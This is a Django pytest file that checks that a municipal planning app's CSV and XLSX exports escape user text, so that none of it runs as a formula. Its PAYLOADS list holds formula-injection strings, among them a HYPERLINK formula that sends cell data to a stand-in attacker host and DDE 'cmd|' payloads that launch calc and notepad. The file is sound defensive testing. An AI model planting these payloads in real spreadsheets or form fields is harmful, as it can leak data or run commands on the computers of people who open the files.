"""No user text reaches a CSV or XLSX export as a live formula (security issue 12, fault 4).

`EXPORTS` is the table of every spreadsheet download of the product. Each is fetched with
formula payloads in every kind of user text it shows (measure, comment, answer, organisation,
qualitative indicator text, source note …): an XLSX has no formula cell, a CSV cell that
begins with `= + - @`, a tab or a carriage return is escaped with `'` unless it is a number.
The table is checked against the URLs: every view that answers through
`integration_site.spreadsheets.download` needs a row, and no product module writes CSV or XLSX
any other way.
"""

import csv
import datetime
import inspect
import io
import re
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from indicators.models import Indicator
from integration_site.spreadsheets import FORMULA_STARTS
from participation.models import GroupMembership, WorkingGroup
from participation.review import services
from tests import factories
from tests.factories import IndicatorFactory, MeasurementFactory

ROOT = Path(__file__).resolve().parents[2]
PRODUCT_PACKAGES = ["concepts", "indicators", "participation", "integration_site"]
HELPER = ROOT / "integration_site" / "spreadsheets.py"

PAYLOADS = [
    '=HYPERLINK("http://angreifer.example/?d="&A1,"Details")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
# Each export must show at least one payload unescaped in its text, proving the user text
# under test reached the file at all.
MARKERS = ["HYPERLINK", "cmd|", "SUM(1+1)", "=1+1", "=2+2"]


@dataclass
class Export:
    name: str
    kwargs: object  # world -> URL kwargs
    fmt: str
    query: dict = field(default_factory=dict)


def _edition(world):
    return {"town": world.town.slug, "edition": world.edition.pk}


def _round(world):
    return {"town": world.town.slug, "round": world.round.pk}


def _town(world):
    return {"town": world.town.slug}


def _survey(world):
    return {"town": world.town.slug, "survey": world.survey.pk}


EXPORTS = [
    Export("concepts:measures_xlsx", _edition, "xlsx"),
    Export("concepts:measures_csv", _edition, "csv"),
    Export("indicators:import_template", lambda w: {**_edition(w), "fmt": "csv"}, "csv"),
    Export("indicators:import_template", lambda w: {**_edition(w), "fmt": "xlsx"}, "xlsx"),
    Export("indicators:export_csv", _town, "csv"),
    Export("indicators:export_xlsx", _town, "xlsx"),
    Export("participation:review_synopsis_xlsx", _round, "xlsx"),
    Export("participation:survey_export_csv", _survey, "csv"),
    Export("participation:survey_export_xlsx", _survey, "xlsx"),
    Export("participation:survey_summary_xlsx", _survey, "xlsx"),
]


def payload(n):
    return PAYLOADS[n % len(PAYLOADS)]


@pytest.fixture
def hostile(world):
    """The town's concept, indicators and a review round, with payloads in every user text."""
    edition = world.edition
    field_ = factories.FieldOfActionFactory(edition=edition, title=payload(0), position=1)
    goal = factories.OperationalGoalFactory(
        strategic_goal__field_of_action=field_,
        strategic_goal__title=payload(1),
        field_of_action=field_,
        title=payload(2),
    )
    for n in range(len(PAYLOADS)):
        measure = factories.MeasureFactory(
            field_of_action=field_,
            title=payload(n),
            description=payload(n + 1),
            responsible_person=payload(n + 2),
            target_groups=payload(n + 3),
            social_area=payload(n + 4),
            funding=payload(n + 5),
            material_costs=Decimal("-1200.50"),
        )
        measure.operational_goals.add(goal)
    text_indicator = IndicatorFactory(
        operational_goal=goal, code="QUAL", name=payload(0), is_qualitative=True, unit=""
    )
    for n, text in enumerate(PAYLOADS):
        MeasurementFactory(
            indicator=text_indicator,
            year=2015 + n,
            value=None,
            text=text,
            source_note=payload(n + 1),
        )
    number_indicator = IndicatorFactory(
        operational_goal=goal, code="ZAHL", unit=Indicator.Unit.COUNT, name="Saldo"
    )
    MeasurementFactory(indicator=number_indicator, year=2023, value=Decimal("-3.5"))

    group = WorkingGroup.objects.create(municipality=world.town, name=payload(1))
    authors = []
    for n in range(len(PAYLOADS)):
        user = factories.UserFactory(username=f"verfasser{n}")
        factories.MembershipFactory(
            user=user, municipality=world.town, role="member", organisation=payload(n + 2)
        )
        GroupMembership.objects.create(group=group, user=user)
        authors.append(user)
    chapter = factories.ChapterFactory(edition=edition, body="Absatz eins.\n\nAbsatz zwei.")
    world.round = services.review_round_open(
        chapter=chapter,
        groups=[group],
        deadline=timezone.localdate() + datetime.timedelta(days=14),
        user=world.users["staff"],
    )
    for n, author in enumerate(authors):
        comment = services.comment_create(
            round_=world.round, author=author, text=payload(n), paragraph=1
        )
        services.comment_answer(
            comment=comment,
            user=world.users["staff"],
            disposition="accepted",
            answer=payload(n + 3),
        )
    add_hostile_survey(world)
    return world


def add_hostile_survey(world):
    """A survey whose options, "Sonstiges" texts and free texts are all payloads."""
    from participation.models import Answer, Question, Response, Survey

    today = timezone.localdate()
    world.survey = Survey.objects.create(
        municipality=world.town,
        edition=world.edition,
        title=payload(0),
        privacy_notice="Hinweis",
        opens_on=today,
        closes_on=today + datetime.timedelta(days=7),
    )
    section = world.survey.sections.create(title=payload(1))
    choice = Question.objects.create(
        section=section,
        kind=Question.Kind.SINGLE,
        text=payload(2),
        options="\n".join(PAYLOADS),
        allow_other=True,
    )
    text = Question.objects.create(section=section, kind=Question.Kind.LONG_TEXT, text=payload(3))
    for n in range(len(PAYLOADS)):
        response = Response.objects.create(survey=world.survey, submitted_at=timezone.now())
        Answer.objects.create(
            response=response, question=choice, value={"choice": payload(n).strip(), "other": ""}
        )
        Answer.objects.create(response=response, question=text, value=payload(n + 1))


# Checking the files ------------------------------------------------------------------------

GERMAN_NUMBER = re.compile(r"^-?\d{1,3}(\.\d{3})*(,\d+)?$|^-?\d+(,\d+)?$")


def formula_cells_in_xlsx(content):
    workbook = load_workbook(io.BytesIO(content))
    found, texts = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.lstrip("\r\n\t").startswith(FORMULA_STARTS) and not (
                        cell.quotePrefix
                    ):
                        found.append(f"{sheet.title}!{cell.coordinate} ohne quotePrefix")
    return found, texts


def formula_cells_in_csv(content):
    text = content.decode("utf-8-sig")
    found, texts = [], []
    for line, row in enumerate(csv.reader(io.StringIO(text, newline=""), delimiter=";"), 1):
        for column, value in enumerate(row, 1):
            texts.append(value)
            if value.startswith(FORMULA_STARTS) and not GERMAN_NUMBER.match(value):
                found.append(f"Zeile {line}, Spalte {column}: {value!r}")
    return found, texts


@pytest.mark.parametrize("export", EXPORTS, ids=lambda e: f"{e.name}.{e.fmt}")
def test_export_writes_user_text_never_as_a_formula(export, hostile, client_for):
    response = client_for("staff").get(
        reverse(export.name, kwargs=export.kwargs(hostile)), export.query
    )
    assert response.status_code == 200
    if export.fmt == "xlsx":
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        found, texts = formula_cells_in_xlsx(response.content)
    else:
        assert response["Content-Type"].startswith("text/csv")
        found, texts = formula_cells_in_csv(response.content)
    assert not found, f"Formeln in {export.name}: {found}"
    assert any(marker in text for marker in MARKERS for text in texts), (
        "Die Nutzertexte kamen gar nicht in der Datei an"
    )


def test_numbers_stay_numbers(hostile, client_for):
    client = client_for("staff")
    kwargs = _edition(hostile)
    sheet = load_workbook(
        io.BytesIO(client.get(reverse("concepts:measures_xlsx", kwargs=kwargs)).content)
    ).active
    assert sheet["S2"].value == -1200.5
    assert sheet["S2"].data_type == "n"
    csv_text = client.get(reverse("concepts:measures_csv", kwargs=kwargs)).content.decode()
    assert ";-1200,50;" in csv_text or ";-1.200,50;" in csv_text
    values = client.get(reverse("indicators:export_csv", kwargs=_town(hostile))).content.decode()
    assert ";-3,5;" in values


def test_an_exported_csv_imports_back_unchanged(hostile, client_for):
    """The apostrophe is taken off again on import: the round trip changes no value."""
    from indicators.importers import values as importers

    response = client_for("staff").get(reverse("indicators:export_csv", kwargs=_town(hostile)))
    parsed = importers.parse_upload(hostile.edition, "werte.csv", response.content)
    assert parsed.ok, [str(e) for e in parsed.errors]
    changed = [
        (row.existing.text, row.existing.source_note)
        for row in importers.preview(parsed.items)
        if row.change != "unchanged"
    ]
    # The importer strips cells, so only the payloads that begin with a tab or CR differ.
    assert all(text != text.strip() or note != note.strip() for text, note in changed), changed
    assert {item.text for item in parsed.items} >= {p.strip() for p in PAYLOADS}
    assert len(changed) < len(parsed.items)


# The table covers every export ----------------------------------------------------------------


def spreadsheet_views(resolver=None, namespace=""):
    """URL names of every view that answers through the spreadsheet helper."""
    resolver = resolver or get_resolver()
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            prefix = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from spreadsheet_views(entry, prefix)
        elif isinstance(entry, URLPattern) and entry.name:
            view = getattr(entry.callback, "view_class", entry.callback)
            try:
                source = inspect.getsource(view)
            except (OSError, TypeError):
                continue
            if "spreadsheets.download(" in source:
                yield f"{namespace}{entry.name}"


def test_every_spreadsheet_export_has_a_row_in_the_table():
    found = set(spreadsheet_views())
    assert found, "no spreadsheet export found: is the discovery broken?"
    missing = sorted(found - {e.name for e in EXPORTS})
    assert not missing, f"Exports without a row in EXPORTS: {missing}"


WRITING_SPREADSHEETS = re.compile(
    r"csv\.writer|csv\.DictWriter|\bWorkbook\(|text/csv|spreadsheetml|\.ods\b|xlsxwriter"
)


def test_no_product_module_writes_a_spreadsheet_past_the_helper():
    offenders = []
    for package in PRODUCT_PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            if path == HELPER or "migrations" in path.parts:
                continue
            for number, line in enumerate(path.read_text().splitlines(), 1):
                if WRITING_SPREADSHEETS.search(line):
                    offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert not offenders, "CSV/XLSX am Helfer vorbei geschrieben:\n" + "\n".join(offenders)
